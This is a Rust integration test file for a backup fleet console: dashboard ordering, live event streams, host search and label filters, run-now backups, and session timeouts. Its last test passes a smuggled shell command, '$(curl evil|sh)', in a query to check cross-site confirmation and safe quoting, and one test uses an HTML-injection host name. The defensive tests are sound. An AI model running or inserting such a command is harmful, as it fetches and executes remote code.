//! The console's fleet overview and its live stream over real HTTP: hosts
//! worst first with their last good backup and 30 days, the favicon's state,
//! the stream's per-session cap and its end when the session ends; hosts
//! searched and filtered by label; and "run now" from a host's page.

use std::collections::BTreeMap;
use std::time::Duration;

use cairn_domain::{BackupSpec, JobSpec, JobStatus};
use cairn_server::auth::Principal;
use cairn_server::clock::Clock;
use cairn_server::repos::NewRepository;
use cairn_store::{DAY_MS, HostId, JobEnd, Millis, Role};
use cairn_testkit::{TestServer, poll_pause};
use reqwest::StatusCode;
use reqwest::header::COOKIE;

use crate::{form_value, get_page, post_form, signed_in};

/// Noon on a day well inside 2026, UTC.
const NOON: Millis = 20_500 * DAY_MS + DAY_MS / 2;

pub(crate) async fn approve(server: &TestServer, host: HostId) {
    server
        .api
        .fleet
        .approve(&Principal::local_cli(), host, None)
        .await
        .expect("approve");
}

/// A backup of `host` that ended as `status` at `at`, as its agent would
/// have reported it (message `seq`).
pub(crate) async fn backup_ended(
    server: &TestServer,
    host: HostId,
    seq: u64,
    status: JobStatus,
    at: Millis,
) {
    let job = server
        .stored_job(host, JobSpec::Backup(BackupSpec::default()))
        .await;
    let end = JobEnd {
        status,
        warning: false,
        exit_code: Some(i32::from(status != JobStatus::Succeeded)),
        error: (status != JobStatus::Succeeded).then(|| "it broke".into()),
        summary: None,
        snapshot_id: None,
    };
    let effect = cairn_store::job_finished(host, job, end, at);
    server
        .store()
        .await
        .apply_agent_message_with(host, seq, at, effect)
        .await
        .expect("finish");
}

/// The text of the fleet table.
pub(crate) fn fleet_table(page: &str) -> &str {
    let start = page.find("id=\"fleet-table\"").expect("the fleet table");
    let end = page[start..].find("</table>").expect("its end") + start;
    &page[start..end]
}

#[tokio::test]
async fn the_dashboard_lists_the_fleet_worst_first_with_its_last_good_backup_and_30_days() {
    let (clock, _manual) = Clock::manual(NOON);
    let server = TestServer::start_with_clock(clock, |_| {}).await;
    let cookie = signed_in(&server, "ann", Role::Viewer).await;
    let (status, empty) = get_page(&server, &cookie, "/").await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        empty.contains("No host is in the fleet yet"),
        "an empty state"
    );
    assert!(empty.contains("/static/favicon-ok.svg"));

    let good = server.stored_host("good-host").await;
    approve(&server, good).await;
    let bad = server.stored_host("bad-host").await;
    approve(&server, bad).await;
    let _waiting = server.stored_host("waiting-host").await;
    let gone = server.stored_host("revoked-host").await;
    server
        .api
        .fleet
        .revoke(&Principal::local_cli(), gone, "")
        .await
        .expect("revoke");
    backup_ended(&server, good, 1, JobStatus::Succeeded, NOON - 3_600_000).await;
    backup_ended(&server, bad, 1, JobStatus::Succeeded, NOON - 3 * DAY_MS).await;
    backup_ended(&server, bad, 2, JobStatus::Failed, NOON - 7_200_000).await;

    let (_, page) = get_page(&server, &cookie, "/").await;
    let table = fleet_table(&page);
    let at = |name: &str| table.find(name).unwrap_or_else(|| panic!("{name} listed"));
    // Failing first, then offline (approved, never connected), then pending.
    assert!(at("bad-host") < at("good-host"), "{table}");
    assert!(at("good-host") < at("waiting-host"), "{table}");
    assert!(
        !table.contains("revoked-host"),
        "a revoked host is not in the fleet"
    );
    assert!(table.contains("last backup failed"));
    // Thirty days per host, today last.
    assert_eq!(table.matches("class=\"day day-").count(), 3 * 30);
    let bad_row = &table[at("bad-host")..at("good-host")];
    let days: Vec<&str> = bad_row
        .match_indices("class=\"day day-")
        .map(|(i, _)| bad_row[i + 15..].split('"').next().unwrap_or_default())
        .collect();
    assert_eq!(days.len(), 30);
    assert_eq!(days[29], "failed", "today");
    assert_eq!(days[26], "ok", "three days ago");
    assert_eq!(days.iter().filter(|d| **d == "none").count(), 28);
    assert!(bad_row.contains("aria-label=\"last 30 days: 1 with backups, 1 with failures"));
    // The last good backup, as a time the page's script localises.
    let good_row = &table[at("good-host")..at("waiting-host")];
    assert!(good_row.contains("datetime=\""), "{good_row}");
    assert!(table[at("waiting-host")..].contains("never"));
    // The tab's icon shows a failing fleet.
    assert!(page.contains("/static/favicon-bad.svg"));
    let (status, icon) = get_page(&server, &cookie, "/static/favicon-bad.svg").await;
    assert_eq!(status, StatusCode::OK);
    assert!(icon.starts_with("<svg"));

    // The live part alone, for the stream's refreshes.
    let partial = server
        .http()
        .get(format!("{}/", server.url))
        .header(COOKIE, &cookie)
        .header("hx-request", "true")
        .send()
        .await
        .expect("partial");
    assert_eq!(partial.headers()["vary"], "HX-Request");
    let partial = partial.text().await.expect("body");
    assert!(
        partial.starts_with("<div id=\"fleet\""),
        "{}",
        &partial[..80]
    );
    assert!(!partial.contains("<html"));
}

/// Reads an SSE response until `want` shows up (or the stream ends: `false`).
async fn read_until(response: &mut reqwest::Response, want: &str) -> bool {
    read_into(response, &mut String::new(), want).await
}

/// Adds what the response sends to `seen` until it holds `want` (`true`)
/// or the stream ends (`false`).
async fn read_into(response: &mut reqwest::Response, seen: &mut String, want: &str) -> bool {
    while let Ok(Some(chunk)) = response.chunk().await {
        seen.push_str(&String::from_utf8_lossy(&chunk));
        if seen.contains(want) {
            return true;
        }
    }
    false
}

async fn open_stream(server: &TestServer, cookie: &str) -> reqwest::Response {
    server
        .http()
        .get(format!("{}/events/fleet", server.url))
        .header(COOKIE, cookie)
        .send()
        .await
        .expect("stream")
}

#[tokio::test]
async fn the_fleet_stream_says_changed_is_capped_per_session_and_ends_with_the_session() {
    let server = TestServer::start().await;
    let cookie = signed_in(&server, "ann", Role::Operator).await;
    let host = server.stored_host("db01").await;

    let mut stream = open_stream(&server, &cookie).await;
    assert_eq!(stream.status(), StatusCode::OK);
    assert_eq!(stream.headers()["content-type"], "text/event-stream");
    assert!(stream.headers().contains_key("content-security-policy"));
    // A proxy is told not to buffer it.
    assert_eq!(stream.headers()["x-accel-buffering"], "no");
    approve(&server, host).await;
    let changed = tokio::time::timeout(
        Duration::from_secs(60),
        read_until(&mut stream, "event: changed"),
    );
    assert!(changed.await.expect("in time"), "an approval is a change");

    // Four streams per session; a fifth is refused until one goes.
    let mut more = Vec::new();
    for _ in 0..3 {
        let s = open_stream(&server, &cookie).await;
        assert_eq!(s.status(), StatusCode::OK);
        more.push(s);
    }
    let refused = open_stream(&server, &cookie).await;
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    drop(more.pop());
    // The freed place comes back once the server sees the client gone.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        let again = open_stream(&server, &cookie).await;
        if again.status() == StatusCode::OK {
            break;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "the place was never freed"
        );
        poll_pause().await;
    }
    drop(more);

    // Another session has its own streams.
    let other = signed_in(&server, "bob", Role::Viewer).await;
    assert_eq!(open_stream(&server, &other).await.status(), StatusCode::OK);

    // Signing out ends the session's streams.
    let (_, page) = get_page(&server, &cookie, "/").await;
    let csrf = form_value(&page, "_csrf").expect("csrf");
    let (status, _) = post_form(&server, &cookie, "/logout", &[("_csrf", csrf.as_str())]).await;
    assert!(status.is_redirection(), "{status}");
    let ended = tokio::time::timeout(Duration::from_secs(90), read_until(&mut stream, "never"));
    assert!(!ended.await.expect("the stream ends"), "nothing more came");
}

#[tokio::test]
async fn hosts_are_searched_and_filtered_by_label_in_the_url() {
    let server = TestServer::start().await;
    let cookie = signed_in(&server, "vic", Role::Viewer).await;
    let cli = Principal::local_cli();
    let db = server.stored_host("db01.example.com").await;
    let web = server.stored_host("WEB01.example.com").await;
    server.stored_host("<b>evil</b>").await;
    let labels = BTreeMap::from([("role".to_string(), "db".to_string())]);
    server
        .api
        .fleet
        .set_labels(&cli, db, labels)
        .await
        .expect("labels");
    let labels = BTreeMap::from([("role".to_string(), "web".to_string())]);
    server
        .api
        .fleet
        .set_labels(&cli, web, labels)
        .await
        .expect("labels");

    let (_, page) = get_page(&server, &cookie, "/hosts?q=web01").await;
    assert!(page.contains("WEB01.example.com"), "search ignores case");
    assert!(!page.contains("db01.example.com"));
    assert!(page.contains("cairn ctl hosts list --search web01"));
    let (_, page) = get_page(&server, &cookie, "/hosts?labels=role%3Ddb").await;
    assert!(page.contains("db01.example.com"));
    assert!(!page.contains("WEB01.example.com"));
    assert!(page.contains("--label role=db"));
    assert!(
        page.contains("href=\"/hosts?labels=role%3Ddb\""),
        "a label links to its filter"
    );
    let (_, page) = get_page(&server, &cookie, "/hosts?labels=role").await;
    assert!(page.contains("db01.example.com") && page.contains("WEB01.example.com"));
    let (_, page) = get_page(&server, &cookie, "/hosts?q=nothing-like-it").await;
    assert!(
        page.contains("match these filters"),
        "an empty state for a filter"
    );
    let (_, page) = get_page(&server, &cookie, "/hosts?q=%3Cb%3E").await;
    assert!(
        page.contains("&lt;b&gt;evil") || page.contains("&#60;b&#62;evil"),
        "inert"
    );
    assert!(!page.contains("<b>evil"));
    // Bad input is a clear error, the typed text kept.
    let (status, page) = get_page(&server, &cookie, "/hosts?labels=%3Dx").await;
    assert_eq!(status, StatusCode::BAD_REQUEST);
    assert!(page.contains("has no key"), "says what is wrong");
    assert!(page.contains("value=\"=x\""), "keeps what was typed");
}

/// An approved host with one repository assigned.
async fn host_with_repository(server: &TestServer) -> (HostId, i64) {
    let cli = Principal::local_cli();
    let host = server.stored_host("db01").await;
    approve(server, host).await;
    let repo = server
        .api
        .repos
        .create(
            &cli,
            NewRepository {
                name: "local".into(),
                url: "/srv/restic".into(),
                password: "pw".into(),
                env: BTreeMap::new(),
            },
        )
        .await
        .expect("repository");
    server
        .api
        .repos
        .assign(&cli, repo.id, host)
        .await
        .expect("assign");
    (host, repo.id.0)
}

#[tokio::test]
async fn run_now_submits_the_backup_typed_and_keeps_a_refused_form() {
    let server = TestServer::start().await;
    let (host, repo) = host_with_repository(&server).await;
    let path = format!("/hosts/{}", host.0);
    let cookie = signed_in(&server, "ann", Role::Operator).await;
    let (_, page) = get_page(&server, &cookie, &path).await;
    assert!(page.contains("id=\"run-backup\""));
    assert!(page.contains(&format!(
        "cairn ctl backup --host {} --repo {repo} --path PATH --wait",
        host.0
    )));
    assert!(
        page.contains("version <strong>"),
        "the schedule set, wanted and applied"
    );
    let csrf = form_value(&page, "_csrf").expect("csrf");
    let run = format!("{path}/run");
    let repo_text = repo.to_string();

    // No paths: refused on the form, with what was typed kept.
    let (status, refused) = post_form(
        &server,
        &cookie,
        &run,
        &[
            ("_csrf", csrf.as_str()),
            ("kind", "backup"),
            ("repository", repo_text.as_str()),
            ("paths", ""),
            ("tags", "kept-tag"),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{refused}");
    assert!(refused.contains("at least one path"));
    assert!(
        refused.contains("value=\"kept-tag\""),
        "nothing typed is lost"
    );
    // A relative path is the service's refusal, shown the same way.
    let (status, refused) = post_form(
        &server,
        &cookie,
        &run,
        &[
            ("_csrf", csrf.as_str()),
            ("kind", "backup"),
            ("repository", repo_text.as_str()),
            ("paths", "relative/path"),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{refused}");
    assert!(
        refused.contains("relative/path"),
        "the path is kept in the form"
    );

    let response = server
        .http()
        .post(format!("{}{run}", server.url))
        .header(COOKIE, &cookie)
        .header("sec-fetch-site", "same-origin")
        .form(&[
            ("_csrf", csrf.as_str()),
            ("kind", "backup"),
            ("repository", repo_text.as_str()),
            ("paths", "/etc\n/srv/data\n"),
            ("excludes", "*.tmp"),
            ("tags", "manual, before-upgrade"),
        ])
        .send()
        .await
        .expect("run");
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
    let to = response.headers()["location"]
        .to_str()
        .expect("location")
        .to_string();
    let job: i64 = to.trim_start_matches("/jobs/").parse().expect("a job page");
    let stored = server
        .store()
        .await
        .job(cairn_store::JobId(job))
        .await
        .expect("job");
    assert_eq!(stored.trigger, cairn_domain::Trigger::Manual);
    match stored.spec {
        JobSpec::Backup(spec) => {
            assert_eq!(spec.paths, ["/etc", "/srv/data"]);
            assert_eq!(spec.excludes, ["*.tmp"]);
            assert_eq!(spec.tags, ["manual", "before-upgrade"]);
        }
        other => panic!("not a backup: {other:?}"),
    }

    // A viewer sees no form, and posting anyway is refused.
    let viewer = signed_in(&server, "vic", Role::Viewer).await;
    let (_, page) = get_page(&server, &viewer, &path).await;
    assert!(!page.contains("id=\"run-backup\""));
    let csrf = form_value(&page, "_csrf").expect("csrf");
    let (status, _) = post_form(
        &server,
        &viewer,
        &run,
        &[
            ("_csrf", csrf.as_str()),
            ("kind", "check"),
            ("repository", repo_text.as_str()),
        ],
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let jobs = server
        .store()
        .await
        .list_jobs(Default::default(), cairn_store::Page::first(10))
        .await;
    assert_eq!(
        jobs.expect("jobs").items.len(),
        1,
        "the viewer queued nothing"
    );
}

#[tokio::test]
async fn the_fleet_stream_ends_at_shutdown_without_holding_it_up() {
    let server = TestServer::start().await;
    let cookie = signed_in(&server, "ann", Role::Viewer).await;
    let mut stream = open_stream(&server, &cookie).await;
    assert_eq!(stream.status(), StatusCode::OK);
    let stopping = tokio::spawn(server.stop());
    let ended = tokio::time::timeout(Duration::from_secs(60), read_until(&mut stream, "never"));
    assert!(!ended.await.expect("the stream ends"), "nothing more came");
    stopping
        .await
        .expect("joined")
        .expect("the server stops cleanly");
}

/// Reads an SSE response until its text holds `want`, and returns the text.
async fn read_text_until(response: &mut reqwest::Response, want: &str) -> String {
    let mut seen = String::new();
    let read = read_into(response, &mut seen, want);
    let _ = tokio::time::timeout(Duration::from_secs(60), read).await;
    seen
}

#[tokio::test]
async fn a_job_stream_resumes_its_log_where_the_page_left_off() {
    use cairn_domain::{LogLevel, LogStream};
    let server = TestServer::start().await;
    let cookie = signed_in(&server, "vic", Role::Viewer).await;
    let host = server.stored_host("db01").await;
    let job = server
        .stored_job(host, JobSpec::Check(Default::default()))
        .await;
    let lines = (0..4)
        .map(|n| cairn_store::LogLine {
            at: NOON,
            stream: LogStream::Stdout,
            level: LogLevel::Info,
            line: format!("line {n}"),
        })
        .collect();
    let effect = cairn_store::append_job_log(host, job, lines, 100);
    let stored = server
        .store()
        .await
        .apply_agent_message_with(host, 1, NOON, effect)
        .await
        .expect("log")
        .expect("applied");
    assert_eq!(stored.first, 0);

    // The page says where its stream starts: after the lines it shows.
    let (_, page) = get_page(&server, &cookie, &format!("/jobs/{}", job.0)).await;
    assert!(
        page.contains(&format!("/jobs/{}/events?from=4", job.0)),
        "the stream resumes after the 4 lines shown"
    );

    let open = |extra: Option<&'static str>, query: &'static str| {
        let mut request = server
            .http()
            .get(format!("{}/jobs/{}/events{query}", server.url, job.0))
            .header(COOKIE, &cookie);
        if let Some(last) = extra {
            request = request.header("last-event-id", last);
        }
        request.send()
    };
    // A page rendered with one line, and its stream opened after three more.
    let mut stream = open(None, "?from=1").await.expect("stream");
    let text = read_text_until(&mut stream, "line 3").await;
    assert!(text.contains("event: log"), "{text}");
    assert!(
        text.contains("id: 4"),
        "the id is the position after the batch: {text}"
    );
    assert!(text.contains("\"first\":1"), "{text}");
    assert!(
        !text.contains("line 0") && text.contains("line 1"),
        "{text}"
    );
    drop(stream);
    // A reconnect says what it saw last; that wins over the URL's start.
    let mut stream = open(Some("3"), "?from=1").await.expect("stream");
    let text = read_text_until(&mut stream, "line 3").await;
    assert!(text.contains("\"first\":3"), "{text}");
    assert!(!text.contains("line 2"), "{text}");
    drop(stream);
    // Nothing missed: no log event, only the job's state.
    let mut stream = open(None, "?from=4").await.expect("stream");
    let text = read_text_until(&mut stream, "event: state").await;
    assert!(
        text.contains("event: state") && !text.contains("event: log"),
        "{text}"
    );
}

#[tokio::test]
async fn a_page_refreshing_itself_does_not_keep_its_session_alive() {
    let (clock, manual) = Clock::manual(NOON);
    let server = TestServer::start_with_clock(clock, |c| {
        c.session_idle_timeout = Duration::from_secs(3600);
    })
    .await;
    let cookie = signed_in(&server, "ann", Role::Viewer).await;
    let get = |background: bool| {
        let mut request = server
            .http()
            .get(format!("{}/", server.url))
            .header(COOKIE, &cookie)
            .header("hx-request", "true");
        if background {
            request = request.header("x-cairn-background", "1");
        }
        request.send()
    };
    // The dashboard's own refreshes, as the operator is away.
    for _ in 0..5 {
        manual.advance(Duration::from_secs(11 * 60));
        let refreshed = get(true).await.expect("refresh");
        assert_eq!(
            refreshed.status(),
            StatusCode::OK,
            "the session is still alive"
        );
    }
    // An hour after the operator last did anything, the session is over.
    manual.advance(Duration::from_secs(6 * 60));
    let after = get(false).await.expect("request");
    assert!(after.status().is_redirection(), "{}", after.status());
    assert_eq!(after.headers()["location"], "/login");
}

#[tokio::test]
async fn pages_that_run_restic_ask_first_when_another_site_sent_the_browser() {
    let server = TestServer::start().await;
    let (_host, repo) = host_with_repository(&server).await;
    let cookie = signed_in(&server, "ann", Role::Operator).await;
    let hostile = format!("/snapshots/diff?repo={repo}&a=%24%28curl%20evil%7Csh%29&b=x");
    for path in [
        hostile.as_str(),
        "/snapshots/1/abcdef0123",
        "/snapshots/1/abcdef0123/tree?path=/etc",
    ] {
        let response = server
            .http()
            .get(format!("{}{path}", server.url))
            .header(COOKIE, &cookie)
            .header("sec-fetch-site", "cross-site")
            .send()
            .await
            .expect("request");
        assert_eq!(response.status(), StatusCode::OK);
        let page = response.text().await.expect("body");
        assert!(page.contains("Open this page?"), "{page}");
        assert!(
            page.contains("href=\"/snapshots/"),
            "a link to itself: {page}"
        );
    }
    let jobs = server
        .store()
        .await
        .list_jobs(Default::default(), cairn_store::Page::first(10))
        .await
        .expect("jobs");
    assert!(jobs.items.is_empty(), "nothing ran on a host");

    // Opened from the console itself, the line it shows is quoted: pasting
    // it runs cairn ctl, nothing else.
    let (_, page) = get_page(&server, &cookie, &hostile).await;
    assert!(
        page.contains("&#39;$(curl evil|sh)&#39;") || page.contains("'$(curl evil|sh)'"),
        "{page}"
    );
    assert!(!page.contains(" $(curl evil|sh) "), "never bare");
}
